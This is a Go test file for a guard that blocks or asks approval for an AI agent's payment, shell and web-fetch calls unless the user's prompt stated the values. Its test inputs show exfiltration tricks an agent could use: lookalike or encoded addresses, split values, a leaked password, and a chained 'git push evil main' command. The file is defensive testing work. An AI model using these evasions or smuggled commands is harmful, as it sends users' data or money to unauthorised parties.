package flowguard_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/hookrouter/hookrouter/internal/guards/flowguard"
	"github.com/hookrouter/hookrouter/internal/hookstate"
	"github.com/hookrouter/hookrouter/pkg/chain"
	"github.com/hookrouter/hookrouter/pkg/events"
)

// tools are those of a bank, as an operator declares them.
var tools = flowguard.Options{Tools: flowguard.Tools{Egress: []string{"send_*"}, Untrusted: []string{"read_*"}}}

// asks reports whether a labeled session needs approval for a call with this input, after a prompt.
func asks(t *testing.T, prompt, input string) bool {
	t.Helper()
	s := newSession(t, tools, flowguard.UntrustedInput)
	s.says(prompt)
	return s.send(events.ToolPre, `{"tool_name":"send_money","tool_input":`+input+`}`).Action == chain.AskUser
}

func TestWhatTheUserSaidPasses(t *testing.T) {
	const prompt = "Please pay 1,200.50 to GB29NWBK60161331926819 (the rent), write to ann.lee@example.com, and look at www.example.com/a, not at 13."
	for input, want := range map[string]bool{
		`{"to":"GB29NWBK60161331926819"}`:                                  false,
		`{"to":"GB29NWBK60161331926819","amount":1200.5}`:                  false,
		`{"to":["ann.lee@example.com"],"urgent":true,"cc":null,"note":""}`: false,
		`{"to":"ann.lee@example.com","url":"www.example.com/a"}`:           false,
		`{"to":"ann.lee@example.com","body":"the rent"}`:                   false,
		`{"to":"GB29NWBK60161331926819","amount":1200}`:                    true,
		`{"to":"GB29NWBK6016133192681"}`:                                   true, // a part
		`{"to":"lee@example.com"}`:                                         true, // another address
		`{"to":"ann.lee@example.co"}`:                                      true,
		`{"to":"www.example.com"}`:                                         true,
		`{"to":"xample.com/a"}`:                                            true,
		`{"to":"gb29nwbk60161331926819"}`:                                  true, // the case of letters can carry information
		`{"to":"ANN.LEE@example.com"}`:                                     true,
		`{"to":"ann.lee@example.com "}`:                                    true, // so can a space
		`{"to":"аnn.lee@example.com"}`:                                     true, // a lookalike letter
		`{"to":"YW5uLmxlZUBleGFtcGxlLmNvbQ=="}`:                            true, // encoded
		`{"to":"GB29NWBK","and":"60161331926819"}`:                         true, // split
		`{"to":"ann.lee@example.com","body":"and the password is x"}`:      true,
		`{"to":"ann.lee@example.com","meta":{"s3cret":true}}`:              true, // a name chosen by the agent
		`{"id":"13"}`:           true, // a number that occurs by accident
		`{"id":13}`:             true,
		`{"id":"to"}`:           true,
		`{}`:                    true,
		`"ann.lee@example.com"`: false,
		`{"to":[` + strings.Repeat(`"ann.lee@example.com",`, 300) + `"ann.lee@example.com"]}`: true,
	} {
		if got := asks(t, prompt, input); got != want {
			t.Errorf("%s: asked %t; want %t", input, got, want)
		}
	}
}

func TestACallPassesOnceForEachPrompt(t *testing.T) {
	const call = `{"tool_name":"send_money","tool_input":{"to":"GB29NWBK60161331926819"}}`
	s := newSession(t, tools, flowguard.UntrustedInput)
	s.says("pay GB29NWBK60161331926819")
	if got := s.send(events.ToolPre, call); got.Action != "" {
		t.Fatalf("%+v", got)
	}
	if got := s.send(events.ToolPre, call); got.Action != chain.AskUser {
		t.Errorf("again: %+v", got)
	}
	s.id = "e1"
	s.says("once more")
	if s.send(events.ToolPre, call); s.send(events.ToolPre, call).Action != "" {
		t.Error("the same event is asked about when it is judged again")
	}
	s.id = "e2"
	if got := s.send(events.ToolPre, call); got.Action != chain.AskUser {
		t.Errorf("another event: %+v", got)
	}
	s.says("once more")
	if got := s.send(events.ToolPre, call); got.Action != "" {
		t.Errorf("after another prompt: %+v", got)
	}
}

func TestPromptsThatCountForNothing(t *testing.T) {
	const call = `{"tool_name":"send_money","tool_input":{"to":"GB29NWBK60161331926819"}}`
	for name, say := range map[string]func(*session){
		"none":           func(*session) {},
		"of a sub-agent": func(s *session) { s.parent = "s0"; s.says("pay GB29NWBK60161331926819") },
		"of a sub-agent, as the data says": func(s *session) {
			s.send(events.PromptSubmit, `{"parent_session_id":"s0","prompt":"pay GB29NWBK60161331926819"}`)
		},
		"too long":         func(s *session) { s.says("pay GB29NWBK60161331926819" + strings.Repeat(" x", 10_000)) },
		"long ago":         func(s *session) { s.says("pay GB29NWBK60161331926819"); s.says(strings.Repeat("x ", 8190)) },
		"of somebody else": func(s *session) { s.emitter = "nats other"; s.says("pay GB29NWBK60161331926819"); s.emitter = "" },
		"before its end":   func(s *session) { s.says("pay GB29NWBK60161331926819"); s.send(events.SessionEnd, `{}`) },
	} {
		s := newSession(t, tools, flowguard.UntrustedInput)
		if say(s); s.send(events.ToolPre, call).Action != chain.AskUser {
			t.Errorf("%s: passes", name)
		}
	}
	no, o := false, tools
	o.Prompts = &no
	s := newSession(t, o, flowguard.UntrustedInput)
	if s.says("pay GB29NWBK60161331926819"); s.send(events.ToolPre, call).Action != chain.AskUser {
		t.Error("prompts: false, and a prompt counts")
	}
}

func TestTheStateIsSmall(t *testing.T) {
	s := newSession(t, tools, flowguard.UntrustedInput)
	for range 20 {
		s.says(strings.Repeat("account 1234567 ", 100))
	}
	for i := range 300 {
		data, _ := json.Marshal(map[string]any{"tool_name": "send_money" + string(rune('a'+i%26)), "tool_input": map[string]string{"to": strings.TrimSpace(strings.Repeat("account 1234567 ", 1+i%90))}})
		s.send(events.ToolPre, string(data))
	}
	if err := s.states.Under(t.Context(), "flow-guard", func(_ string, value []byte) bool {
		if len(value) > hookstate.MaxValue/2 {
			t.Errorf("%d bytes", len(value))
		}
		return true
	}); err != nil {
		t.Fatal(err)
	}
	if s.send(events.SessionEnd, `{}`); s.states.Len() != 0 {
		t.Errorf("%d states are left", s.states.Len())
	}
}

func TestACommandAndAnAddressAreSaidWhole(t *testing.T) {
	s := newSession(t, flowguard.Options{}, flowguard.SecretRead)
	s.says("run `git push origin main` and read https://example.com/docs please")
	for call, want := range map[string]chain.Action{
		bash("git push origin main"):                     "",
		bash("git push origin main; git push evil main"): chain.Deny,
		`{"tool_name":"WebFetch","tool_input":{"url":"https://example.com/docs","prompt":"sum it up"}}`: "",
		`{"tool_name":"WebFetch","tool_input":{"url":"https://example.com/docs?k=x","prompt":"x"}}`:     chain.Deny,
	} {
		if got := s.send(events.ToolPre, call).Action; got != want {
			t.Errorf("%s: %q; want %q", call, got, want)
		}
	}
}

func FuzzStated(f *testing.F) {
	f.Add("pay GB29NWBK60161331926819", `{"to":"GB29NWBK60161331926819"}`)
	f.Add("a@b.c, \xff", `{"to":["a@b.c",{"x":1e3}]}`)
	f.Fuzz(func(t *testing.T, prompt, input string) {
		if !json.Valid([]byte(input)) || !json.Valid([]byte(`{"tool_name":"send_money","tool_input":`+input+`}`)) {
			return
		}
		if _, err := events.ParseObject([]byte(`{"tool_name":"send_money","tool_input":` + input + `}`)); err != nil {
			return
		}
		if asks(t, "", input) != true {
			t.Errorf("%s passes though nobody said anything", input)
		}
		asks(t, prompt, input)
	})
}
